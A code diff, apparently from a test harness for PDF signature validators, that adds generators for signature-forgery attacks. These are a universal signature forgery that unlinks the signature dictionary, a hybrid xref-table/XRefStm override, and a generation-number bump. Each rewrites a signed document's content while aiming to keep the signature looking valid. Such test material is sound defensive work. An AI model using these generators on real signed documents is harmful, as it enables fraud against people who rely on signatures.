@@ -292,6 +292,18 @@ export const ATTACKS: AttackClass[] = [
         update(ctx, [editSignature(ctx.signed, edit), { num: OBJ.content, body: changedContent() }]),
     }),
   ),
+  {
+    id: 'usf-signature-unlinked',
+    family: 'USF (2019)',
+    description:
+      'universal signature forgery: the signature field redefined without /V (the signature dictionary is no longer reachable), and the amount changed',
+    kind: always,
+    make: (ctx) =>
+      update(ctx, [
+        { num: OBJ.sigField, body: currentBody(ctx.signed, OBJ.sigField).replace(/\/V\s+\d+\s+\d+\s+R/, '') },
+        { num: OBJ.content, body: changedContent() },
+      ]),
+  },
   // ISA: incremental saving attack (CCS 2019)
   {
     id: 'isa-with-xref',
@@ -328,6 +340,22 @@ export const ATTACKS: AttackClass[] = [
         }),
         latin1(`${'%'.padEnd(63, ' ')}\n`.repeat(32)),
       ),
+  },
+  {
+    id: 'hybrid-xrefstm-override',
+    family: 'xref tricks',
+    description:
+      'a hybrid update: its xref table lists the content stream at its signed offset, the /XRefStm stream lists it at a new definition (ISO 32000-1 §7.5.8.4: the table section is read first)',
+    kind: always,
+    make: (ctx) => hybridOverride(ctx),
+  },
+  {
+    id: 'generation-bump',
+    family: 'xref tricks',
+    description:
+      'the update defines the content stream as "4 1 obj" with an xref entry of generation 1; the page still says 4 0 R (viewers that ignore generations show it)',
+    kind: always,
+    make: (ctx) => generationBump(ctx),
   },
   // SWA: signature wrapping (CCS 2019)
   {
@@ -553,6 +581,91 @@ export const ATTACKS: AttackClass[] = [
     make: (ctx) => addDocumentTimeStamp(ctx.signed, ctx.pki.timeStamper),
   },
 ];
+
+/** Hybrid update: table entry of object 4 = its signed offset, /XRefStm entry = a new definition. */
+function hybridOverride(ctx: AttackContext): Uint8Array {
+  const t = lastTrailer(ctx.signed);
+  const old = lastDefinition(ctx.signed, OBJ.content);
+  if (!old) throw new Error('content stream not found as a plain object');
+  const parts: Uint8Array[] = [ctx.signed];
+  let pos = ctx.signed.length;
+  const push = (b: Uint8Array) => {
+    parts.push(b);
+    pos += b.length;
+  };
+  const objAt = pos;
+  push(concat(latin1(`${OBJ.content} 0 obj\n`), changedContent(), latin1('\nendobj\n')));
+  const xsNum = t.size;
+  const xsAt = pos;
+  const data = Uint8Array.of(
+    1,
+    (objAt >>> 24) & 255,
+    (objAt >>> 16) & 255,
+    (objAt >>> 8) & 255,
+    objAt & 255,
+    0,
+    0,
+  );
+  push(
+    concat(
+      latin1(`${xsNum} 0 obj\n`),
+      stream(`/Type /XRef /Size ${xsNum + 1} /W [1 4 2] /Index [${OBJ.content} 1]`, data),
+      latin1('\nendobj\n'),
+    ),
+  );
+  const xrefAt = pos;
+  const id = t.id ? ` ${t.id}` : '';
+  push(
+    latin1(
+      `xref\n${OBJ.content} 1\n${String(old.offset).padStart(10, '0')} 00000 n\r\ntrailer\n<< /Size ${xsNum + 1} /Root ${t.root}${id} /Prev ${t.startxref} /XRefStm ${xsAt} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
+    ),
+  );
+  return concat(...parts);
+}
+/** The content stream redefined as generation 1 (xref entry generation 1). */
+function generationBump(ctx: AttackContext): Uint8Array {
+  const t = lastTrailer(ctx.signed);
+  const at = ctx.signed.length;
+  const obj = concat(latin1(`${OBJ.content} 1 obj\n`), changedContent(), latin1('\nendobj\n'));
+  const xrefAt = at + obj.length;
+  const id = t.id ? ` ${t.id}` : '';
+  if (ctx.variant === 'table') {
+    return concat(
+      ctx.signed,
+      obj,
+      latin1(
+        `xref\n${OBJ.content} 1\n${String(at).padStart(10, '0')} 00001 n\r\ntrailer\n<< /Size ${t.size} /Root ${t.root}${id} /Prev ${t.startxref} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
+      ),
+    );
+  }
+  const xnum = t.size;
+  const data = Uint8Array.of(
+    1,
+    (at >>> 24) & 255,
+    (at >>> 16) & 255,
+    (at >>> 8) & 255,
+    at & 255,
+    0,
+    1,
+    1,
+    (xrefAt >>> 24) & 255,
+    (xrefAt >>> 16) & 255,
+    (xrefAt >>> 8) & 255,
+    xrefAt & 255,
+    0,
+    0,
+  );
+  return concat(
+    ctx.signed,
+    obj,
+    latin1(`${xnum} 0 obj\n`),
+    stream(
+      `/Type /XRef /Size ${xnum + 1} /W [1 4 2] /Index [${OBJ.content} 1 ${xnum} 1] /Root ${t.root}${id} /Prev ${t.startxref}`,
+      data,
+    ),
+    latin1(`\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`),
+  );
+}
 
 /** A visible signature appearance: an opaque box over the amount with other text. */
 const opaqueAppearance: AppearanceProvider = {
